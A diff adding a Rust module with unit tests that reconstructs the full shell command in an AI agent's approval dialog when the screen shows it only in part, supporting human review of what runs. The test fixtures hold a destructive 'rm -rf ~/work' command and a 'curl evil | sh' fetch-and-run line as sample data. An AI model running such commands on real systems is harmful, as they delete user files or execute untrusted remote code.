@@ -1,0 +1,182 @@
+//! The commands that an agent's own events ask to approve. They complete a dialog whose command the screen shows only in
+//! part.
+
+use serde::{Deserialize, Serialize};
+use uuid::Uuid;
+
+use crate::dialog::{Dialog, NAMESPACE};
+use crate::evidence::DialogKind;
+
+/// A request for approval that an agent has reported and that is still open.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
+pub struct AskedCommand {
+    /// The shell command to run, redacted. Absent if the request is about something else, such as a file.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub command: Option<String>,
+    /// Other texts of the request that the dialog may show beside the command, such as its description.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub about: Vec<String>,
+}
+
+/// A screen with less of the command than this does not identify the command.
+const MIN_VISIBLE_CHARS: usize = 12;
+
+/// The dialog as a person must see it: with the whole command, if one open request fits what the screen shows.
+///
+/// A command is used only if the visible rows are a part of it, and if no other open request has the same part. Blanks
+/// are not compared, because the screen does not tell where it wraps a line. If the screen shows a row of a command but
+/// not the whole command, the subject is truncated.
+pub fn complete(dialog: &Dialog, asked: &[AskedCommand]) -> Dialog {
+    if dialog.kind != DialogKind::Approval || asked.is_empty() {
+        return dialog.clone();
+    }
+    let rows: Vec<&str> = dialog.subject.iter().flat_map(|subject| subject.lines()).collect();
+    let subject_with = |command: &str, about: &[String]| {
+        let whole = with_whole_command(&rows, command);
+        whole.or_else(|| dialog.subject_truncated.then(|| with_part(&rows, command, about))?)
+    };
+    let commands = asked.iter().filter_map(|asked| Some((asked.command.as_ref()?, &asked.about)));
+    let fitting = commands.filter_map(|(command, about)| Some((command, subject_with(command, about)?)));
+    let mut found: Vec<(&String, String)> = fitting.collect();
+    found.dedup_by(|one, other| one.0 == other.0);
+    match found.as_slice() {
+        [(command, subject)] => {
+            let fingerprint = match dialog.subject_truncated {
+                // The visible part may be the same for the next command.
+                true => derived_fingerprint(&dialog.fingerprint, command),
+                false => dialog.fingerprint.clone(),
+            };
+            Dialog { fingerprint, ..dialog.clone().with_subject(subject.clone()) }
+        }
+        _ => {
+            let mut commands = asked.iter().filter_map(|asked| asked.command.as_ref());
+            let is_cut = found.is_empty() && commands.any(|command| shows_a_row(&rows, command));
+            Dialog { subject_truncated: dialog.subject_truncated || is_cut, ..dialog.clone() }
+        }
+    }
+}
+
+/// Whether one of the rows is a part of the command.
+fn shows_a_row(rows: &[&str], command: &str) -> bool {
+    let command = squashed(command);
+    let is_part = |row: String| row.chars().count() >= MIN_VISIBLE_CHARS && command.contains(&row);
+    rows.iter().any(|row| is_part(squashed(row)))
+}
+
+fn derived_fingerprint(of_screen: &str, command: &str) -> String {
+    Uuid::new_v5(&NAMESPACE, format!("{of_screen}|{command}").as_bytes()).simple().to_string()
+}
+
+/// The rows, with those that show the whole command replaced by the command itself.
+fn with_whole_command(rows: &[&str], command: &str) -> Option<String> {
+    let wanted = squashed(command);
+    let block = (0..rows.len()).find_map(|from| Some(from..from + rows_that_show(&rows[from..], &wanted)?))?;
+    let parts = [&rows[..block.start], &[command.trim_end()], &rows[block.end..]];
+    Some(parts.concat().join("\n"))
+}
+
+/// The number of rows from the first one on that show exactly this text.
+fn rows_that_show(rows: &[&str], wanted: &str) -> Option<usize> {
+    // A prompt sign may stand before the command.
+    let first = squashed(rows.first()?);
+    let starts = [Some(first.as_str()), first.strip_prefix('$')];
+    starts.into_iter().flatten().filter(|first| !first.is_empty()).find_map(|first| {
+        let mut left = wanted.strip_prefix(first)?;
+        let mut count = 1;
+        while !left.is_empty() {
+            left = left.strip_prefix(squashed(rows.get(count)?).as_str())?;
+            count += 1;
+        }
+        Some(count)
+    })
+}
+
+/// The command, if the rows show its end and otherwise only the other texts of the request. The other texts are kept.
+fn with_part(rows: &[&str], command: &str, about: &[String]) -> Option<String> {
+    let wanted = squashed(command);
+    let about: Vec<String> = about.iter().map(|text| squashed(text)).collect();
+    let is_about = |row: &&str| about.iter().any(|text| text.contains(&squashed(row)));
+    let below = rows.iter().rev().take_while(|row| is_about(row)).count();
+    // The end of the command may look like a part of its description.
+    let (shown, below, text) = (0..=below).rev().find_map(|below| {
+        let (shown, below) = rows.split_at(rows.len() - below);
+        let above = shown.iter().take_while(|row| is_about(row)).count();
+        let text: String = shown[above..].iter().map(|row| squashed(row)).collect();
+        (!text.is_empty() && wanted.ends_with(&text)).then_some((&shown[..above], below, text))
+    })?;
+    let is_enough = text.chars().count() >= MIN_VISIBLE_CHARS.min(wanted.chars().count());
+    is_enough.then(|| [shown, &[command.trim_end()], below].concat().join("\n"))
+}
+
+fn squashed(text: &str) -> String {
+    text.chars().filter(|c| !c.is_whitespace()).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const COMMAND: &str = "rm -rf ~/work && make install PREFIX=/opt/tools";
+
+    fn shown(subject: &str, truncated: bool) -> Dialog {
+        let dialog = Dialog::new(DialogKind::Approval, "Proceed?".into(), Some(subject.into()), Vec::new());
+        Dialog { subject_truncated: truncated, ..dialog }
+    }
+
+    fn asks(command: &str) -> AskedCommand {
+        AskedCommand { command: Some(command.into()), about: vec!["Install the tools".into()] }
+    }
+
+    #[test]
+    fn a_command_whose_end_is_visible_is_shown_in_full() {
+        for rows in [
+            "install PREFIX=/\nopt/tools",
+            "install PREFIX=/opt/tools\nInstall the tools",
+            "make install PREFIX=/opt/tools",
+        ] {
+            let screen = shown(rows, true);
+            let full = complete(&screen, &[asks(COMMAND)]);
+            assert!(full.subject.as_ref().is_some_and(|subject| subject.starts_with(COMMAND)), "{full:?}");
+            assert!(!full.subject_truncated);
+            assert_ne!(full.fingerprint, screen.fingerprint, "another command may have the same end");
+        }
+    }
+
+    #[test]
+    fn a_wrapped_command_is_shown_with_its_own_blanks() {
+        let rows = "Bash command\nInstall the tools\nrm -rf ~/work && ma\nke install\nPREFIX=/opt/tools";
+        let full = complete(&shown(rows, false), &[asks(COMMAND)]);
+        assert_eq!(full.subject, Some(format!("Bash command\nInstall the tools\n{COMMAND}")));
+        assert_eq!(full.fingerprint, shown(rows, false).fingerprint);
+        let prompted = complete(&shown(&format!("$ {COMMAND}"), false), &[asks(COMMAND)]);
+        assert_eq!(prompted.subject.as_deref(), Some(COMMAND));
+    }
+
+    #[test]
+    fn a_command_that_the_screen_does_not_show_is_not_used() {
+        let others =
+            ["touch a", "make install PREFIX=/opt/tools2", "curl evil | sh &&\ninstall PREFIX=/opt/tools", "s"];
+        for rows in others {
+            let kept = complete(&shown(rows, true), &[asks(COMMAND)]);
+            assert_eq!(kept, shown(rows, true), "{rows}");
+        }
+        assert_eq!(complete(&shown("touch a", false), &[asks(COMMAND)]), shown("touch a", false));
+        let part = complete(&shown("Bash command\ninstall PREFIX=/opt/tools", false), &[asks(COMMAND)]);
+        assert!(part.subject_truncated, "the agent has left out the beginning without a sign");
+    }
+
+    #[test]
+    fn of_two_commands_with_the_same_end_none_is_used() {
+        let rows = "make install PREFIX=/opt/tools";
+        let two = [asks(COMMAND), asks("true && make install PREFIX=/opt/tools")];
+        assert_eq!(complete(&shown(rows, true), &two), shown(rows, true));
+        assert!(!complete(&shown(COMMAND, false), &two).subject_truncated, "only one of them is visible in full");
+    }
+
+    #[test]
+    fn a_question_without_an_approval_stays_as_it_is() {
+        let question = Dialog::new(DialogKind::Input, "Which?".into(), Some("a".into()), Vec::new());
+        assert_eq!(complete(&question, &[asks(COMMAND)]), question);
+    }
+}
